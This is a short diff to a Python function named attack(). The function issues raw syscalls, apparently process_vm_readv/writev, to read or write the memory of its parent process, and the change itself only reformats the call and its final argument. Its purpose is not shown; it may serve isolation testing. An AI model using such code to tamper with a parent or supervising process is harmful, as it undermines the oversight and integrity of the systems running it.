@@ -25,7 +25,10 @@ def attack():
     )  # where its name stands, in a fork as well
     parent, one = os.getppid(), ctypes.c_ulong(1)
     for call in (310, 311) if X86 else (270, 271):
-        if libc.syscall(call, parent, ctypes.byref(here), one, ctypes.byref(there), one, 0) != 1:
+        if (
+            libc.syscall(call, parent, ctypes.byref(here), one, ctypes.byref(there), one, ctypes.c_long(0))
+            != 1
+        ):
             return None
     return True
 
